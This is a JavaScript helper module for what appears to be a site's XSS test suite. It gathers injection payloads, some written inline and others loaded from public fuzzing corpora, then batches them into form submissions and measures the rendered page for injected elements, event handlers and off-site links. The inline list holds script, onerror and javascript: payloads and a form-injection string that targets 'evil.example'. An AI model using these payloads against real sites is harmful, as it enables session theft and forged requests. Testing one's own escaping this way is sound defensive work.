// hostile.js: what people who mean harm would put into a text field, and what a browser then shows of it.
'use strict'
const fs = require('node:fs')
const path = require('node:path')
const { root } = require('./site.js')

const CORPUS = path.join(path.dirname(root), 'shared/data/hostile')
const OWN = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '<svg onload=alert(1)>',
  '" autofocus onfocus=alert(1) x="', "' onmouseover=alert(1) '", 'javascript:alert(1)', '</textarea><script>alert(1)</script>',
  '</title><img src=x onerror=alert(1)>', '<!--', '-->', '<b>', '&lt;b&gt;', '&#60;b&#62;', '{{constructor}}', '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">', '</td></tr></table><form action="//evil.example"><input name=csrf>'
]

function * files (folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true }).sort((a, b) => a.name < b.name ? -1 : 1)) {
    const file = path.join(folder, entry.name)
    if (entry.isDirectory()) yield * files(file)
    else if (!/licen[cs]e|readme|copyright/i.test(entry.name)) yield file
  }
}

// Every distinct text of the public corpora, after our own; without NUL, which no form takes.
function payloads () {
  const found = new Set(OWN)
  const isWhole = fs.existsSync(CORPUS)
  if (isWhole) {
    const inCorpus = (name) => path.join(CORPUS, name)
    JSON.parse(fs.readFileSync(inCorpus('dompurify/expect.json'))).forEach((one) => found.add(one.payload))
    JSON.parse(fs.readFileSync(inCorpus('blns/blns.json'))).forEach((one) => found.add(one))
    for (const folder of ['xss', 'fuzzdb/attack/xss', 'fuzzdb/attack/html_js_fuzz']) {
      for (const file of files(inCorpus(folder))) fs.readFileSync(file, 'utf8').split(/\r?\n/).forEach((line) => found.add(line))
    }
  }
  return { all: [...found].filter((one) => one.trim() && !one.includes('\0')), isWhole }
}

// Several of them behind each other, as many as fit into `bytes` by what `size` says of a text: one that gets through is seen beside the others too,
// since it makes an element, an attribute or ends what they stand in.
function chunks (all, bytes, size = Buffer.byteLength) {
  const made = []
  let [now, used] = ['', 0]
  for (const one of all) {
    const more = size(' ' + one)
    if (now && used + more > bytes) {
      made.push(now)
      ;[now, used] = ['', 0]
    }
    now += (now ? ' ' : '') + one
    used += more
  }
  return made.concat(now)
}

// Bytes of a text in the body or the address of a form.
const sentBytes = (text) => new URLSearchParams({ x: text }).toString().length

// In the page: how often each kind of element with each set of attributes is there, what could run or lead out of the
// site, and which marks stand in texts or attributes.
const MEASURE = `(() => {
  const shape = {}, bad = [], text = []
  for (const e of document.querySelectorAll('*')) {
    const names = e.getAttributeNames().sort()
    const kind = e.localName + '[' + names + ']'
    shape[kind] = (shape[kind] || 0) + 1
    for (const name of names) {
      text.push(e.getAttribute(name))
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') bad.push(e.outerHTML.slice(0, 200))
    }
    const leads = e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? e.getAttribute('formaction')
    if (leads !== null && !/^https?:$/.test(new URL(leads, document.baseURI).protocol)) bad.push(e.outerHTML.slice(0, 200))
  }
  text.push(document.documentElement.textContent, ...Array.from(document.querySelectorAll('input, textarea'), (e) => e.value))
  return { shape, bad, marks: [...new Set(text.join('\\n').match(/q\\d+q/g))] }
})()`

// What one page has that its twin has not, and the other way round; where they may differ in their rows, only kinds that
// the twin lacks.
function difference (shape, twin, isSameLength) {
  const kinds = new Set([...Object.keys(shape), ...(isSameLength ? Object.keys(twin) : [])])
  return [...kinds].filter((kind) => isSameLength ? shape[kind] !== twin[kind] : !twin[kind])
    .map((kind) => kind + ': ' + (shape[kind] || 0) + ' instead of ' + (twin[kind] || 0))
}

module.exports = { payloads, chunks, sentBytes, MEASURE, difference }
